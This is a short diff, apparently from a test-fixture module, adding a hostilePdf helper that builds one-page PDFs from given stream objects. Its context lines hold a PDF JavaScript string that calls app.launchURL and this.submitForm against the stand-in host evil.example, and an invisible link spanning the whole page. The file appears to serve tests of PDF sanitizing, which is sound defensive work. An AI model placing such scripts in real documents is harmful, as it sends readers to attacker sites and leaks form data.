@@ -50,6 +50,14 @@ export function pdf(pages: number, { padding = 0, catalog = '', page = '', objec
   );
 }
 
+/** A PDF of one page, whose entries come last and so count. */
+export function hostilePdf(page: string, streams: readonly (readonly [dictionary: string, bytes: Buffer])[]): Buffer {
+  const objects = streams.map(
+    ([dictionary, bytes]) => `<<${dictionary}/Length ${bytes.length}>>stream\n${bytes.toString('latin1')}\nendstream`,
+  );
+  return pdf(1, { page, objects });
+}
+
 const SCRIPT =
   "app.alert('run');app.launchURL('https://evil.example/js');this.submitForm('https://evil.example/form');";
 const everywhere = '/Subtype/Link/Rect[0 0 595 842]/Border[0 0 0]';
